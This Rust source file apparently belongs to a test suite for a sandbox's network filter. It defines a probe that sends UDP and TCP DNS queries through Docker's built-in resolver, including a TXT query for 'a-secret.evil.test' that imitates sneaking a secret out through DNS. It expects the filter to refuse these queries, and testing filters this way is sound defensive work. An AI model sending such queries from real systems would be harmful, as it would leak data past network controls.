//! The resolver that the engine puts into containers.

use std::net::{IpAddr, Ipv4Addr};

use crate::prelude::*;

/// Where Docker's engine answers in containers.
const ENGINES: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 11));

pub(super) const TECHNIQUE: Technique = Technique {
    id: "engines-resolver",
    family: Family::Dns,
    name: "The resolver of the container's engine",
    tries: "Asks the resolver that the engine puts into every container for a name that is not allowed, over UDP and over TCP.",
    danger: "The engine passes questions on, and from where it does, in the container or on the host, decides whether the filter hears of them.",
    places: Places::Container,
    steps: &[
        Step::Udp(At(ENGINES, 53), Made("a query for evil.test A", || query(1, "evil.test", A))),
        Step::Udp(At(ENGINES, 53), Made("a query for a-secret.evil.test TXT", || query(2, "a-secret.evil.test", TXT))),
        Step::Tcp(
            At(ENGINES, 53),
            &[Made("a query for evil.test A over TCP", || question::framed(&query(3, "evil.test", A)))],
        ),
    ],
    expect: Expect {
        refusals: &[Refusal { times: Count::AtLeast(3), ..refusal("dns", "default", "no_rule_allows") }],
        ..NOTHING
    },
    on_host: None,
};
